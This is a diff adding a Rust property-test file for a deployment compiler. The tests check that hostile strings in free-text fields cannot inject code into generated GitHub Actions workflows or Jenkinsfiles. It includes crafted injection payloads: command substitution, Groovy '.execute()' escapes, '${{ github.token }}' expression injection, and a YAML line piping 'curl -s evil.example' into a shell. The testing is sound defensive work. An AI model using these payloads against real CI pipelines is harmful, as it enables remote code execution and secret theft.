@@ -1,0 +1,285 @@
+//! Program strings in the pipelines are data, never code: a string placed
+//! in a free-text field that reaches GitHub Actions or Jenkins is either
+//! rejected by the checker or leaves the generated structure unchanged —
+//! the workflows parse to the same shape (no new keys, no new `${{ }}` in
+//! `if:` or `run:`), and the Jenkinsfile has the same Groovy code outside
+//! its string literals and the same shell scripts, the value reaching the
+//! shell only through `withEnv` bindings.
+
+mod common;
+use deployc::emit::{self, Target};
+use deployc::plan::Plan;
+use proptest::prelude::*;
+use serde_json::Value;
+
+/// The program, with `{V}` in one of its free-text fields.
+const FIELDS: &[&str] = &["owner", "config", "channel", "branch", "approver"];
+
+fn program(provider: &str, field: &str, v: &str) -> String {
+    let pick = |f: &str, benign: &str| if f == field { v.to_string() } else { benign.to_string() };
+    format!(
+        r##"
+project shop {{
+  repository = "github.com/acme/shop"
+  registry   = ghcr {{ owner = "{owner}" }}
+  domain     = "shop.acme.dev"
+  branch     = "{branch}"
+}}
+service api {{
+  language = python
+  build    {{ context = "api" }}
+  port     = 8080
+  expose   = ingress {{ host = "api.${{env.domain}}" }}
+  health   = http {{ path = "/healthz" }}
+}}
+integration chat = slack {{
+  channel = "{channel}"
+  webhook = secret("slack-webhook")
+  events  = [deploy, failure]
+}}
+gate sast = semgrep {{ config = "{config}" }}
+environment dev  {{ promote = on_push("{branch}") notify = [chat] after = [health_check, smoke_tests] }}
+environment prod {{ promote = manual(from = dev) approvers = ["{approver}"] requires = [sast] notify = [chat] }}
+pipeline {{ provider = {provider} }}
+"##,
+        owner = pick("owner", "acme"),
+        channel = pick("channel", "#deploys"),
+        config = pick("config", "p/default"),
+        branch = pick("branch", "main"),
+        approver = pick("approver", "acme/rm"),
+    )
+}
+
+/// A string as a .dpl string literal's contents.
+fn dpl(s: &str) -> String {
+    let mut out = String::new();
+    for c in s.chars() {
+        match c {
+            '\\' => out.push_str("\\\\"),
+            '"' => out.push_str("\\\""),
+            '\n' => out.push_str("\\n"),
+            '\t' => out.push_str("\\t"),
+            '$' => out.push_str("\\$"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// The artifacts of a program, or `None` when the checker rejects it.
+fn build(text: &str, target: Target) -> Option<Vec<(String, String)>> {
+    let c = deployc::compile("test.dpl", text, &common::Disk);
+    let (model, graph) = c.output?;
+    let out = emit::emit(&Plan::new(&model, &graph, &Default::default()), &[target]);
+    Some(out.into_iter().map(|a| (a.path, a.contents)).collect())
+}
+
+/// A parsed document with every string replaced, and the count of the
+/// expressions (`${{`) its values hold, not counting `${{ '${{' }}` (the
+/// expression that writes `${{` itself).
+fn shape(v: &Value, exprs: &mut usize) -> Value {
+    match v {
+        Value::Object(m) => Value::Object(
+            m.iter()
+                .map(|(k, x)| {
+                    // `on:` filters are patterns GitHub never evaluates.
+                    let mut ignored = 0;
+                    (k.clone(), shape(x, if k == "on" { &mut ignored } else { &mut *exprs }))
+                })
+                .collect(),
+        ),
+        Value::Array(a) => Value::Array(a.iter().map(|x| shape(x, exprs)).collect()),
+        Value::String(s) => {
+            *exprs += s.matches("${{").count() - 2 * s.matches("${{ '${{' }}").count();
+            Value::String(String::new())
+        }
+        other => other.clone(),
+    }
+}
+
+fn workflow_shapes(files: &[(String, String)]) -> Vec<(String, Value, usize)> {
+    files
+        .iter()
+        .filter(|(p, _)| p.ends_with(".yml"))
+        .map(|(p, text)| {
+            let v: Value = serde_yaml_ng::from_str(text).unwrap_or_else(|e| panic!("{p} does not parse: {e}\n{text}"));
+            let mut n = 0;
+            let s = shape(&v, &mut n);
+            (p.clone(), s, n)
+        })
+        .collect()
+}
+
+/// A Groovy literal of the Jenkinsfile: its decoded contents and whether
+/// it is the script of an `sh` step.
+#[derive(Debug, PartialEq)]
+struct Literal {
+    sh: bool,
+    text: String,
+}
+
+/// Splits a Jenkinsfile into its code outside string literals and comments
+/// (literals as `S`, comments as `//`) and its single-quoted literals,
+/// decoded. Errors when a single-quoted literal runs into a line end.
+fn groovy(src: &str) -> Result<(String, Vec<Literal>), String> {
+    let c: Vec<char> = src.chars().collect();
+    let (mut i, mut code, mut lits) = (0, String::new(), Vec::new());
+    let starts = |i: usize, s: &str| s.chars().enumerate().all(|(k, x)| c.get(i + k) == Some(&x));
+    while i < c.len() {
+        if starts(i, "//") {
+            while i < c.len() && c[i] != '\n' {
+                i += 1;
+            }
+            code.push_str("//");
+        } else if starts(i, "'''") || c[i] == '\'' {
+            let triple = starts(i, "'''");
+            i += if triple { 3 } else { 1 };
+            let mut text = String::new();
+            loop {
+                if i >= c.len() {
+                    return Err("unterminated literal".into());
+                }
+                if triple && starts(i, "'''") {
+                    i += 3;
+                    break;
+                }
+                if !triple && c[i] == '\'' {
+                    i += 1;
+                    break;
+                }
+                if !triple && (c[i] == '\n' || c[i] == '\r') {
+                    return Err(format!("line end in a literal after {text:?}"));
+                }
+                if c[i] == '\\' {
+                    let e = *c.get(i + 1).ok_or("escape at the end")?;
+                    i += 2;
+                    match e {
+                        'n' => text.push('\n'),
+                        'r' => text.push('\r'),
+                        't' => text.push('\t'),
+                        'u' => {
+                            let hex: String = c[i..i + 4].iter().collect();
+                            text.push(
+                                char::from_u32(u32::from_str_radix(&hex, 16).map_err(|e| e.to_string())?)
+                                    .ok_or("bad escape")?,
+                            );
+                            i += 4;
+                        }
+                        '\\' | '\'' => text.push(e),
+                        other => return Err(format!("unknown escape \\{other}")),
+                    }
+                    continue;
+                }
+                text.push(c[i]);
+                i += 1;
+            }
+            lits.push(Literal { sh: code.trim_end().ends_with("sh"), text });
+            code.push('S');
+        } else if c[i] == '"' {
+            // Double-quoted strings are the template's own (no program data).
+            code.push('"');
+            i += 1;
+            while i < c.len() && c[i] != '"' {
+                code.push(c[i]);
+                i += 1;
+            }
+            code.push('"');
+            i += 1;
+        } else if c[i] == '/' && code.trim_end().ends_with("==~") {
+            // The tag policy's regular expression.
+            code.push('/');
+            i += 1;
+            while i < c.len() && c[i] != '/' {
+                code.push(c[i]);
+                i += 1;
+            }
+            code.push('/');
+            i += 1;
+        } else {
+            code.push(c[i]);
+            i += 1;
+        }
+    }
+    Ok((code, lits))
+}
+
+fn jenkins_parts(files: &[(String, String)]) -> (String, Vec<String>, Vec<Literal>) {
+    let (_, text) = files.iter().find(|(p, _)| p == "jenkins/Jenkinsfile").expect("a Jenkinsfile");
+    let (code, lits) = groovy(text).unwrap_or_else(|e| panic!("the Jenkinsfile does not lex: {e}\n{text}"));
+    let scripts = lits.iter().filter(|l| l.sh).map(|l| l.text.clone()).collect();
+    (code, scripts, lits)
+}
+
+fn hostile() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        Just("\n".to_string()),
+        Just("'".to_string()),
+        Just("\"".to_string()),
+        Just("$(touch /tmp/x)".to_string()),
+        Just("`id`".to_string()),
+        Just("${{ github.token }}".to_string()),
+        Just("${x}".to_string()),
+        Just("\\".to_string()),
+        Just("\\u000a".to_string()),
+        Just("'''".to_string()),
+        Just("\ndefaults:\n  run:\n    shell: sh".to_string()),
+        Just("\n- x".to_string()),
+        Just("' + \"x\".execute() + '".to_string()),
+        Just("; touch /tmp/x".to_string()),
+        Just("#".to_string()),
+        Just("\t".to_string()),
+        "[a-z/.*-]{1,6}",
+    ];
+    prop::collection::vec(piece, 1..6).prop_map(|v| format!("a{}", v.concat()))
+}
+
+fn check(field: &str, v: &str) {
+    let benign_v = match field {
+        "owner" => "acme",
+        "channel" => "#deploys",
+        "config" => "p/default",
+        "branch" => "main",
+        _ => "acme/rm",
+    };
+    let benign_gh = build(&program("github_actions", field, benign_v), Target::Github).expect("benign compiles");
+    let benign_jf = build(&program("jenkins", field, benign_v), Target::Jenkins).expect("benign compiles");
+    let text = |p: &str| program(p, field, &dpl(v));
+    // Rejected by the checker: nothing is generated, nothing to check.
+    if let Some(gh) = build(&text("github_actions"), Target::Github) {
+        let (a, b) = (workflow_shapes(&benign_gh), workflow_shapes(&gh));
+        assert_eq!(a.len(), b.len());
+        for ((pa, sa, na), (pb, sb, nb)) in a.iter().zip(&b) {
+            assert_eq!(pa, pb);
+            assert!(sa == sb, "{field} = {v:?} changes the structure of {pb}");
+            assert_eq!(na, nb, "{field} = {v:?} adds an expression to {pb}");
+        }
+    }
+    if let Some(jf) = build(&text("jenkins"), Target::Jenkins) {
+        let (code_a, sh_a, _) = jenkins_parts(&benign_jf);
+        let (code_b, sh_b, lits) = jenkins_parts(&jf);
+        assert_eq!(code_a, code_b, "{field} = {v:?} changes the Groovy code");
+        assert_eq!(sh_a, sh_b, "{field} = {v:?} reaches a shell script's text");
+        if field != "owner" {
+            assert!(lits.iter().any(|l| l.text.contains(v)), "{field} = {v:?} is not in any literal");
+        }
+    }
+}
+
+#[test]
+fn the_crafted_cases_of_the_security_review_are_inert() {
+    check("owner", "acme$(touch /tmp/x)");
+    check("config", "r.yml; touch /tmp/x");
+    check("channel", "#it's");
+    check("branch", "main' + \"x\".execute() + '");
+    check("branch", "${{ github.token }}");
+    check("approver", "acme/rm\ndefaults:\n  run:\n    shell: \"curl -s evil.example | sh; bash -e {0}\"");
+    check("approver", "a\n- x");
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
+    #[test]
+    fn hostile_strings_stay_data(field in prop::sample::select(FIELDS), v in hostile()) {
+        check(field, &v);
+    }
+}
